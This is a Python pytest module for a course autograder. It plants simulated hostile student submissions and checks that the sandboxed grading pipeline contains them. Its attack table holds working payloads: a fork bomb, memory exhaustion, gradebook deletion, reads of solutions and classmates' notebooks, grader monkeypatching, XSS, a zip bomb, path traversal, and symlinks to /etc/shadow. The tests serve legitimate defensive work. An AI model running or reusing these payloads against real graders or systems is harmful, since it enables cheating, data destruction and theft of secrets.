"""A class whose submissions attack the grader, graded with the real tooling and the sandbox on.

Each attacker submits the same notebook as ``bas``: every exercise right but the update rule,
which returns ``w`` unchanged (12 of 15 points), with one attack added, written as a hostile
student would, knowing the course's paths. The class also has honest students (correct,
partial, empty). One ``course autograde`` run with two workers grades them all, then
``course feedback``. The tests check, for every attack:

* it scores no more than ``bas``, cell by cell;
* every honest student gets exactly the score they earn, as without the attack;
* no tracked file of the repository and no file of the course copy changed, and the run's own
  integrity check agrees;
* no feedback holds another student's work or the instructor's solutions;
* nothing reached the test server listening on a loopback port.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import re
import socket
import subprocess
import threading
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat import NotebookNode
from test_grading import html_text  # tests/ is on sys.path under pytest
from test_grading_class import (
    ASSIGNMENT,
    NOTEBOOK,
    RETURN_W,
    UPDATE_ZERO_ONLY_AT_START,
    WRITTEN,
    answer_text,
    cell,
    checks_of,
    points,
    report_rows,
    snapshot,
    solved,
)

from grader.cli import main
from grader.kernel.sandbox import unavailable_reason
from grader.pipeline.preprocessors import run_problems
from mllib.grading import load_check

REPO = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.skipif(bool(unavailable_reason()), reason=unavailable_reason())

# {root}: the course copy; {repo}: this repository; {port}: the test server's loopback port.
ATTACKS = {
    "library": """
import os
import mllib
for path in [os.path.join(os.path.dirname(mllib.__file__), "perceptron.py"),
             os.path.join(os.path.dirname(mllib.__file__), "grading", "__init__.py"),
             "{repo}/mllib/grading/__init__.py"]:
    try:
        with open(path, "a") as source:
            source.write("\\nimport builtins  # appended by a submission\\n")
    except OSError as error:
        print("library:", error)
""",
    "gradebook": """
import os
import sqlite3
candidates, here = ["{root}/grader/gradebook.db"], os.getcwd()
while here != "/":
    candidates.append(os.path.join(here, "grader", "gradebook.db"))
    here = os.path.dirname(here)
for path in candidates:
    try:
        db = sqlite3.connect("file:" + path + "?mode=rw", uri=True)
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.commit()
        db.close()
        os.remove(path)
    except Exception as error:
        print("gradebook:", error)
""",
    "classmate": """
for path in ["{root}/grader/submitted/ada/{assignment}/{notebook}.ipynb",
             "{root}/grader/autograded/ada/{assignment}/{notebook}.ipynb"]:
    try:
        print(open(path).read())
    except OSError as error:
        print("classmate:", error)
""",
    "solutions": """
import glob
import json
found = glob.glob("{root}/solutions/*/*.ipynb") + glob.glob("{repo}/solutions/*/*.ipynb")
for path in found:
    for c in json.load(open(path))["cells"]:
        if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(c["source"]))
        elif c["cell_type"] == "markdown":
            print("".join(c["source"]))
print("solutions: found", len(found))
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"a stolen answer")
except OSError as error:
    print("network:", error)
""",
    "memory": """
hoard = []
while True:  # until the sandbox's memory limit stops it
    hoard.append(bytearray(2**27))
""",
    "fork": """
import os
import time
kernel = os.getpid()
while True:  # every child forks too, until the process limit stops them
    try:
        os.fork()
    except OSError:
        if os.getpid() != kernel:
            time.sleep(20)
            os._exit(0)
        break
print("fork: the process limit held")
""",
    "frames": """
import inspect


def perceptron_update(w, x, y, eta):
    for outer in inspect.stack()[1:]:  # the expected answer, if a caller holds it
        for name, value in outer.frame.f_locals.items():
            if name in ("expected", "want", "answer", "reference", "result"):
                return value
    return w
""",
    "importlib": """
import importlib
for name in ["mllib." + "gra" + "ding", "mllib." + "gra" + "ding." + "percep" + "tron"]:
    try:
        module = importlib.import_module(name)
    except ImportError as error:
        print("importlib:", error)
        continue
    for attr in ["ju" + "dge", "run_" + "check", "close_" + "failure", "assert_" + "close",
                 "hidden_" + "test", "update_" + "rule"]:
        if hasattr(module, attr):
            setattr(module, attr, lambda *a, **k: None)
""",
    "excepthook": """
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
""",
    "numpy": """
import numpy as np
np.max = np.amax = np.min = lambda *a, **k: -1.0
np.all = np.allclose = np.array_equal = lambda *a, **k: True
np.abs = np.absolute = lambda x, *a, **k: x * 0
""",
    "fake_output": """
import json
from IPython.display import display

_real_update = perceptron_update


def perceptron_update(w, x, y, eta):
    fake = {{"values": [[0.5, 0.5, 0, 0.5, 0.5]], "results": []}}
    display({{"application/vnd.mlcourse.answers+json": json.dumps(fake)}}, raw=True)
    print("All tests passed!")
    return _real_update(w, x, y, eta)
""",
}

PAYLOAD = "pwned-7f3a"  # what a script would leave behind, were one to run
SHADOW = "shadowed-7f3a"  # printed by start-up files next to the notebook, were they run


@dataclass(frozen=True)
class Attack:
    """What an attacker adds to bas's submission besides code after the answer."""

    written: str = ""  # the written answer (markdown)
    files: dict[str, str] = field(default_factory=dict)  # path -> text, or "-> target" (a link)
    cells: tuple[str, ...] = ()  # code cells added at the end of the notebook


RAW = """
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent("shell")


def raw(content: bytes) -> None:  # past the encoder and the in-kernel cap
    session.send(kernel.iopub_socket, "display_data", content, parent=parent)
"""
ATTACKS |= {
    "raw_big": RAW + """
raw(b'{{"data": {{"text/plain": "' + b"x" * 100_000_000 + b'"}}, "metadata": {{}}}}')
""",
    "raw_deep": RAW + """
raw(b'{{"data": {{"text/plain": ' + b"[" * 100_000 + b"]" * 100_000 + b'}}, "metadata": {{}}}}')
""",
    "raw_malformed": RAW + """
raw(b'{{"data": 5, "metadata": []}}')
raw(b'{{"data": {{"text/plain": {{"not": "text"}}}}}}')
raw(b'not json at all')
""",
    "xss_output": """
from IPython.display import HTML, SVG, Javascript, display
display(HTML('<script>document.title = "PAYLOAD"</script>'
             '<img src=x onerror="fetch(\\'/PAYLOAD\\')">'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="localStorage.PAYLOAD = 1"></svg>'))
display(Javascript('document.title = "PAYLOAD"'))
""".replace("PAYLOAD", PAYLOAD),
    "xss_written": "",
    "many_cells": "",
    "slow_cells": "",
    "shadow_guard": """
import mine  # a student's own module next to the notebook still imports
print(mine.MINE, "x" * 3_000_000)  # the guard caps it in the kernel, unless it was shadowed
""",
    "link_solutions": """
import json
try:
    for c in json.load(open("notes.txt"))["cells"]:
        if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(c["source"]))
except Exception as error:
    print("link_solutions:", type(error).__name__)
""",
    "link_secrets": """
import os
for name in ["shadow", "gradebook.db", "classmate.ipynb", "course/solutions"]:
    try:
        print(name, open(name, errors="replace").read() if not os.path.isdir(name)
              else os.listdir(name))
    except OSError as error:
        print("link_secrets:", name, type(error).__name__)
""",
    "exception_args": "",
}
EXTRAS = {
    "xss_written": Attack(written=(
        f"<script>document.title = '{PAYLOAD}'</script>"
        f"<svg onload=\"localStorage.setItem('{PAYLOAD}', 1)\"></svg>"
        f"<img src=x onerror=\"fetch('/{PAYLOAD}')\">"
        f"<a href=\"javascript:fetch('/{PAYLOAD}')\">a link</a>"
        f"<iframe srcdoc=\"<script>parent.document.title='{PAYLOAD}'</script>\"></iframe>")),
    "many_cells": Attack(cells=tuple('print("y" * 950_000)' for _ in range(100))),
    "slow_cells": Attack(cells=tuple("import time\ntime.sleep(2)" for _ in range(30))),
    "shadow_guard": Attack(files={
        "grader/__init__.py": f"print({SHADOW!r})\n",
        "grader/kernel/kernel_guard.py": f"def install(limit):\n    print({SHADOW!r})\n",
        "ipykernel_launcher.py": f"print({SHADOW!r})\nraise SystemExit(1)\n",
        "ipython_kernel_config.py": f"c.IPKernelApp.exec_lines = ['print({SHADOW!r})']\n",
        "ipython_config.py": f"c.InteractiveShellApp.exec_lines = ['print({SHADOW!r})']\n",
        "mine.py": "MINE = 'imported-7f3a'\n"}),
    "link_solutions": Attack(files={
        "notes.txt": f"-> {{root}}/solutions/{ASSIGNMENT}/{NOTEBOOK}.ipynb"}),
    "link_secrets": Attack(files={
        "shadow": "-> /etc/shadow",
        "gradebook.db": "-> {root}/grader/gradebook.db",
        "classmate.ipynb": f"-> {{root}}/grader/submitted/ada/{ASSIGNMENT}/{NOTEBOOK}.ipynb",
        "course": "-> {root}"}),
}
TIME_BUDGET = 40  # seconds per notebook in the course copy: slow_cells' 30 × 2 s exceed it
UNSAFE_ID = "<img src=x onerror=alert(1)>"  # a folder that arrived outside collect
LEAK = "LEAK-5c1e"
ATTACKS["exception_args"] = f"""
def perceptron_update(w, x, y, eta):
    raise ValueError("{LEAK}" + repr((w, x, y, eta)))
"""
BASE = "bas"  # the attackers' submission without the attack


@dataclass(frozen=True)
class Honest:
    name: str
    answers: dict[str, str]
    earns: dict[str, str]  # exercise -> "visible" / "none"; unlisted: everything


HONEST = [Honest("ada", {}, {}),
          Honest("pat", {"update_rule": UPDATE_ZERO_ONLY_AT_START}, {"update_rule": "visible"}),
          Honest("bas", {"update_rule": RETURN_W}, {"update_rule": "none"})]
EMPTY = "emm"


def marker(student: str) -> str:
    return f"written-by-{student}-7f3a"


def submission(student: str, answers: dict[str, str]) -> NotebookNode:
    """A notebook whose written answer is the student's marker, so leaks can be found."""
    return solved(**answers, **{WRITTEN: f"My own answer. {marker(student)}"})


OWN_ANSWER = {"frames", "exception_args"}  # the answer itself; the others follow bas's answer


def attacker(name: str, attack: str, fill: Callable[[str], str]) -> NotebookNode:
    code = fill(attack)
    nb = submission(name, {"update_rule": code if name in OWN_ANSWER else RETURN_W + code})
    extra = EXTRAS.get(name, Attack())
    if extra.written:
        cell(nb, WRITTEN).source += "\n\n" + extra.written
    nb.cells += [nbformat.v4.new_code_cell(source) for source in extra.cells]
    return nb


HONEST_NAMES = [*(h.name for h in HONEST), EMPTY]
BOMBER = "zed"


def honest_download(path: Path, notebooks: dict[str, NotebookNode]) -> None:
    """The LMS's download of the honest students, with the uploads collect must skip: an
    impostor claiming ada's notebook inside zed's zip, a ``../`` entry, and a zip bomb."""
    name = f"{NOTEBOOK}.ipynb"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as download:
        for number, (student, nb) in enumerate(notebooks.items()):
            download.writestr(f"{student}_{100 + number}_{500 + number}_{name}",
                              nbformat.writes(nb))
        upload = io.BytesIO()
        with zipfile.ZipFile(upload, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"ada/{name}", nbformat.writes(submission(BOMBER, {})))
            archive.writestr(f"../../{name}", nbformat.writes(submission(BOMBER, {})))
            with archive.open(name, "w") as bomb:  # 200 MB of zeros, about 200 kB zipped
                for _ in range(200):
                    bomb.write(bytes(2**20))
        download.writestr(f"{BOMBER}_199_599_upload.zip", upload.getvalue())


def write_files(folder: Path, files: dict[str, str], fill: Callable[[str], str]) -> None:
    """The attack's files beside the notebook; ``-> target`` makes a symbolic link."""
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if text.startswith("-> "):
            path.symlink_to(fill(text[3:]))
        else:
            path.write_text(text)


def tracked_files() -> dict[str, str]:
    """sha256 of every file git tracks in the repository (as in the working tree)."""
    names = subprocess.run(["git", "ls-files", "-z"], cwd=REPO, capture_output=True,
                           check=True).stdout.decode().split("\0")
    return {n: hashlib.sha256((REPO / n).read_bytes()).hexdigest() for n in names
            if n and (REPO / n).is_file()}


def course_files(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for folder in ("solutions", "notebooks") for p in (root / folder).rglob("*")
            if p.is_file()} | {"config": hashlib.sha256(
                (root / "grader" / "nbgrader_config.py").read_bytes()).hexdigest()}


class Listener:
    """A TCP server on a loopback port that counts the connections it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while self.running:
            with contextlib.suppress(TimeoutError):
                conn, _ = self.server.accept()
                self.connections += 1
                conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


@dataclass
class HostileRun:
    root: Path
    codes: dict[str, int]
    out: dict[str, str]
    err: dict[str, str]
    scores: dict[str, dict[str, float]]
    repo_before: dict[str, str]
    repo_after: dict[str, str]
    course_before: dict[str, str]
    course_after: dict[str, str]
    connections: int


@pytest.fixture(scope="module")
def hostile(copy_course: Callable[..., Path]) -> HostileRun:
    root = copy_course("solutions", "notebooks")
    with (root / "grader" / "nbgrader_config.py").open("a") as config:
        config.write("\nc.ExecutePreprocessor.timeout = 10\n"
                     f"c.GradingExecute.notebook_timeout = {TIME_BUDGET}\n")
    listener = Listener()
    values = {"root": root, "repo": REPO, "port": listener.port, "assignment": ASSIGNMENT,
              "notebook": NOTEBOOK}
    notebooks = {h.name: submission(h.name, h.answers) for h in HONEST}
    notebooks[EMPTY] = nbformat.read(REPO / "notebooks" / ASSIGNMENT / f"{NOTEBOOK}.ipynb",
                                     as_version=4)
    cell(notebooks[EMPTY], WRITTEN).source = marker(EMPTY)
    notebooks |= {name: attacker(name, code, lambda text: text.format(**values))
                  for name, code in ATTACKS.items()}
    notebooks[UNSAFE_ID] = submission(UNSAFE_ID, {})
    download = root.parent / f"{root.name}-download.zip"
    honest_download(download, {name: notebooks.pop(name) for name in HONEST_NAMES})
    for name, nb in notebooks.items():  # the attackers' folders arrive as git or rsync leave them
        folder = root / "grader" / "submitted" / name / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{NOTEBOOK}.ipynb")
        write_files(folder, EXTRAS.get(name, Attack()).files,
                    lambda text: text.format(**values))
    repo_before, course_before = tracked_files(), course_files(root)
    run = HostileRun(root, {}, {}, {}, {}, repo_before, {}, course_before, {}, 0)
    try:
        for step, args in [("collect", ["collect", ASSIGNMENT, str(download)]),
                           ("autograde", ["autograde", ASSIGNMENT, "--jobs", "2"]),
                           ("feedback", ["feedback", ASSIGNMENT, "--include-ungraded"]),
                           ("report", ["report", ASSIGNMENT])]:
            out, err = io.StringIO(), io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                run.codes[step] = main(["--course-root", str(root), *args])
            run.out[step], run.err[step] = out.getvalue(), err.getvalue()
    finally:
        listener.close()
    run.scores = snapshot(root)
    run.repo_after, run.course_after = tracked_files(), course_files(root)
    run.connections = listener.connections
    return run


def earned(honest: Honest) -> dict[str, float]:
    scores = {WRITTEN: 0.0}
    for exercise in ("update_rule", "training_loop", "margin", "bound", "winnow"):
        for kind, test in checks_of(exercise).items():
            scores[test] = points(test) if honest.earns.get(exercise, "all") in ("all", kind) \
                else 0.0
    return scores


def test_the_run_completes_in_the_sandbox_with_the_course_intact(hostile: HostileRun) -> None:
    assert "INTEGRITY FAILURE" not in hostile.err["autograde"], hostile.err["autograde"]
    assert re.search(r"integrity: \d+ files of the course and the library are unchanged",
                     hostile.out["autograde"])
    assert hostile.codes["feedback"] == 0, hostile.err["feedback"]
    report = (hostile.root / "grader" / "exports" / f"report-{ASSIGNMENT}.html").read_text()
    assert "Submissions ran in the sandbox in a local process pool." in html_text(report)
    assert sorted(hostile.scores) == sorted([*(h.name for h in HONEST), EMPTY, *ATTACKS])


def test_no_tracked_file_changed(hostile: HostileRun) -> None:
    assert hostile.repo_after == hostile.repo_before
    assert hostile.course_after == hostile.course_before


@pytest.mark.parametrize("honest", HONEST, ids=lambda h: h.name)
def test_honest_students_get_exactly_what_they_earn(hostile: HostileRun, honest: Honest) -> None:
    assert hostile.scores[honest.name] == earned(honest)


def test_the_empty_submission_gets_zero(hostile: HostileRun) -> None:
    assert set(hostile.scores[EMPTY].values()) == {0.0}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_gains_nothing(hostile: HostileRun, attack: str) -> None:
    base = hostile.scores[BASE]
    got = hostile.scores[attack]
    assert set(got) == set(base)
    assert all(got[test] <= base[test] for test in base), {
        test: (got[test], base[test]) for test in base if got[test] > base[test]}


def test_nothing_reached_the_loopback_server(hostile: HostileRun) -> None:
    assert hostile.connections == 0


def test_no_feedback_holds_another_students_work_or_the_solutions(hostile: HostileRun) -> None:
    solution_text = [line.strip() for line in answer_text(WRITTEN).splitlines()[:3]]
    for folder in (hostile.root / "grader" / "feedback").iterdir():
        text = html_text((folder / ASSIGNMENT / f"{NOTEBOOK}.html").read_text())
        others = [name for name in hostile.scores if name != folder.name
                  and marker(name) in text]
        assert not others, (folder.name, others)
        assert not any(line and line in text for line in solution_text), folder.name


# --- before and after the kernel: collect, ids, links, messages, budgets, the guard, HTML ------

def test_collect_skips_each_bad_upload_and_collects_the_class(hostile: HostileRun) -> None:
    assert hostile.codes["collect"] == 2, hostile.err["collect"]  # 2: something was skipped
    record = json.loads((hostile.root / "grader" / "exports" /
                         f"collect-{ASSIGNMENT}.json").read_text())
    assert sorted(record["collected"]) == sorted(HONEST_NAMES)
    reasons = " | ".join(s["reason"] for s in record["skipped"])
    for words in ("inside an upload", "(..)", "MB"):  # the impostor, the traversal, the bomb
        assert words in reasons, reasons
    submitted = hostile.root / "grader" / "submitted"
    ada = nbformat.read(submitted / "ada" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    assert marker("ada") in cell(ada, WRITTEN).source  # not the impostor's
    assert not (hostile.root / "grader" / NOTEBOOK).exists()
    assert not (hostile.root / f"{NOTEBOOK}.ipynb").exists()


def test_a_folder_that_is_not_a_safe_id_is_not_graded(hostile: HostileRun) -> None:
    assert UNSAFE_ID not in hostile.scores
    assert "not a safe student id" in hostile.err["autograde"]
    assert not (hostile.root / "grader" / "feedback" / UNSAFE_ID).exists()


def feedback_of(hostile: HostileRun, student: str) -> str:
    return (hostile.root / "grader" / "feedback" / student / ASSIGNMENT /
            f"{NOTEBOOK}.html").read_text()


class ActiveContent(HTMLParser):
    """Collects what a browser would run: script text, event handlers, javascript: URLs,
    and iframe documents."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_script = tag == "script"
        for name, value in attrs:
            value = value or ""
            if (name.startswith("on") or name == "srcdoc"
                    or value.strip().lower().startswith("javascript:")):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script:
            self.found.append(data)


@pytest.mark.parametrize("attack", ["xss_written", "xss_output"])
def test_no_feedback_carries_a_students_script(hostile: HostileRun, attack: str) -> None:
    parser = ActiveContent()
    parser.feed(feedback_of(hostile, attack))
    assert not [found for found in parser.found if PAYLOAD in found], parser.found
    assert "Content-Security-Policy" in feedback_of(hostile, attack)


@pytest.mark.parametrize("attack", ["link_solutions", "link_secrets"])
def test_links_in_a_submission_are_not_followed(hostile: HostileRun, attack: str) -> None:
    text = html_text(feedback_of(hostile, attack))
    assert "CREATE TABLE" not in text and "SQLite format" not in text
    shadow = Path("/etc/shadow")
    with contextlib.suppress(OSError):
        first = shadow.read_text().splitlines()[0]
        assert first not in text
    report = html_text((hostile.root / "grader" / "exports" /
                        f"report-{ASSIGNMENT}.html").read_text())
    for name in EXTRAS[attack].files:
        assert re.search(rf"{attack}.*{re.escape(name)}.*link", report), name


def autograded(hostile: HostileRun, student: str) -> NotebookNode:
    return nbformat.read(hostile.root / "grader" / "autograded" / student / ASSIGNMENT /
                         f"{NOTEBOOK}.ipynb", as_version=4)


@pytest.mark.parametrize("attack", ["raw_big", "raw_deep", "raw_malformed"])
def test_raw_kernel_messages_cost_nothing_after_their_cell(hostile: HostileRun,
                                                           attack: str) -> None:
    """Oversized and malformed messages are dropped before decoding; the later cells run and
    score as bas's."""
    assert hostile.scores[attack] == hostile.scores[BASE]
    assert not run_problems(autograded(hostile, attack))


def test_notebook_budgets_stop_added_cells_and_the_report_lists_them(hostile: HostileRun) -> None:
    for path in (hostile.root / "grader" / "autograded" / "many_cells" / ASSIGNMENT /
                 f"{NOTEBOOK}.ipynb",
                 hostile.root / "grader" / "feedback" / "many_cells" / ASSIGNMENT /
                 f"{NOTEBOOK}.html"):
        assert path.stat().st_size < 7_000_000, path  # 5 MB of output, plus the notebook
    html = (hostile.root / "grader" / "exports" / f"report-{ASSIGNMENT}.html").read_text()
    not_run = " ".join(f"{s}: {text}" for s, text in report_rows(html, "not-run"))
    assert re.search(r"many_cells: .*characters in all", not_run), not_run
    assert re.search(rf"slow_cells: .*more than {TIME_BUDGET} s in all", not_run), not_run
    slept = [c for c in autograded(hostile, "slow_cells").cells if "time.sleep" in c.source
             and not any(o.get("ename") == "NotRun" for o in c.get("outputs", []))]
    assert len(slept) <= TIME_BUDGET // 2 + 1


def test_start_up_files_next_to_the_notebook_are_not_run(hostile: HostileRun) -> None:
    """Graded as bas: nothing of the start-up files ran, the guard held (stderr as stdout, the
    in-kernel output cap), and the student's own module imported."""
    assert hostile.scores["shadow_guard"] == hostile.scores[BASE]
    nb = autograded(hostile, "shadow_guard")
    assert SHADOW not in nbformat.writes(nb)
    printed = "".join(o.get("text", "") for o in cell(nb, "update_rule").outputs)
    assert "imported-7f3a" in printed and "output truncated while grading" in printed


def test_an_exception_carries_no_hidden_input_into_feedback(hostile: HostileRun) -> None:
    text = html_text(feedback_of(hostile, "exception_args"))
    assert "perceptron_update raised ValueError on hidden case 1" in text
    hidden = {str(case.args[1].tolist()) for case in load_check("perceptron.update_rule").cases}
    assert hidden and not [x for x in hidden if x in text]
